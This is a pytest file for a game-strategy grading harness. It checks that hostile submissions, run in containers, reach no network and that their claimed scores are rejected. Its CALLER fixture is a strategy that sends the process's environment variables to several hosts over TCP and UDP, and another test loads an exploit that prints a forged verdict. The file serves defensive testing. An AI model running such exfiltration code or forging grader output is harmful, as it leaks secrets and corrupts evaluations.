"""Hostile artifacts by pull request: graded in containers where they reach nothing, and their claims are not found."""

from __future__ import annotations

import json
import shutil
import socket
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from harness.schema.episode import Verdict
from harness.schema.regrade import RegradeReport
from harness.signing import sign
from scoring.inclusion import include_entry, record_regrade
from tests.ci.actions import ROOT
from tests.ci.hostile_entry import NAME, Pull, entry_of, keys
from tests.harness.sign.builder import strategy

pytestmark = pytest.mark.docker
COOPERATING = 2.25
"""What always cooperating pays: 2.2500 +- 0.0023 in 40,000 games of the starter's simulate.py; defecting pays 2.625."""
FAKER = ROOT / "tasks" / "prisoners-dilemma" / "exploits" / "print-verdict" / "strategy.py"
CALLER = """
import os, socket

PLACES = [("127.0.0.1", PORT), ("172.17.0.1", PORT), ("HOST", PORT), ("8.8.8.8", 53), ("example.org", 443)]


def heard():
    for place in PLACES:
        try:
            socket.create_connection(place, 1).sendall(repr(dict(os.environ)).encode())
            return True
        except OSError:
            pass
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("172.17.0.1", PORT))
        return True
    except OSError:
        return False


HELPED = heard()


def row_strategy(history):
    return 1 if HELPED else 0
"""


def pull(place: Path, artifact: dict[str, bytes], claimed: float) -> Pull:
    key, _ = keys(place)
    entry = entry_of(place, artifact, claimed)
    sign(entry, key)
    return Pull(place / "pull", key, entry)


def regraded(made: Pull) -> tuple[int, str, RegradeReport]:
    code, out, _ = made.preview(undone="nothing")
    return code, out, RegradeReport.from_json((made.folder / "found" / NAME / "regrade.json").read_bytes())


def cooperates(verdict: Verdict) -> bool:
    """Within five standard errors, on either side; a forged error of 0 is none."""
    return abs(verdict.metrics["mean_payoff"] - COOPERATING) < 5 * verdict.stderr["mean_payoff"] < 0.2


def test_a_strategy_that_calls_home_reaches_nobody(tmp_path: Path) -> None:
    """With help it would defect, which pays; it cooperates, so it had none, and nobody was called."""
    heard: list[object] = []
    with socket.socket() as tcp, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        tcp.bind(("0.0.0.0", 0))
        tcp.listen()
        port = tcp.getsockname()[1]
        udp.bind(("0.0.0.0", port))
        for waiting in (lambda: heard.append(tcp.accept()), lambda: heard.append(udp.recv(1))):
            threading.Thread(target=lambda wait=waiting: _quietly(wait), daemon=True).start()
        host = socket.gethostbyname(socket.gethostname())
        text = CALLER.replace("PORT", str(port)).replace("HOST", host)
        code, out, report = regraded(pull(tmp_path, {"strategy.py": text.encode()}, 2.6251))
        assert heard == []
        socket.create_connection((host, port), 5).close()
        assert _soon(heard), "the service does hear whoever reaches it"
    [found] = report.attempts
    assert (code, found.agrees, report.supports) == (1, False, "signed"), out
    assert cooperates(found.measured)


def _soon(heard: list[object]) -> bool:
    for _ in range(100):
        if heard:
            return True
        time.sleep(0.05)
    return False


def _quietly(wait: Any) -> None:
    try:
        wait()
    except OSError:
        return


def test_a_player_that_prints_a_verdict_is_not_believed(tmp_path: Path) -> None:
    code, out, report = regraded(pull(tmp_path, {"strategy.py": FAKER.read_bytes()}, 5.0))
    [found] = report.attempts
    assert (code, found.agrees, report.supports) == (1, False, "signed"), out
    assert cooperates(found.measured) and found.measured.n != 40000


def test_pushing_again_draws_no_other_seed(tmp_path: Path) -> None:
    """The same artifact under a new bundle: the preview of the second push has the ledger's verdict, not a new one."""
    made = pull(tmp_path, strategy(1), 2.6251)
    code, out, first = regraded(made)
    assert (code, first.supports) == (0, "regraded"), out
    shutil.copytree(made.entry, made.ours / NAME)
    include_entry(made.ours, NAME, "merged")
    record_regrade(made.ours, NAME, made.folder / "found" / NAME / "regrade.json", "regraded on main")
    for name in ("ledger.jsonl", "ledger.d"):
        copy = shutil.copytree if (made.ours / name).is_dir() else shutil.copy
        copy(made.ours / name, made.theirs / name)
    made.edit(lambda tree: tree["entry"].update(organization="Again"))
    _, out, second = regraded(made)
    assert second.bundle_sha256 != first.bundle_sha256
    [one], [other] = first.attempts, second.attempts
    assert (one.cached, other.cached) == (False, True), out
    assert json.dumps(one.measured.model_dump(mode="json")) == json.dumps(other.measured.model_dump(mode="json"))
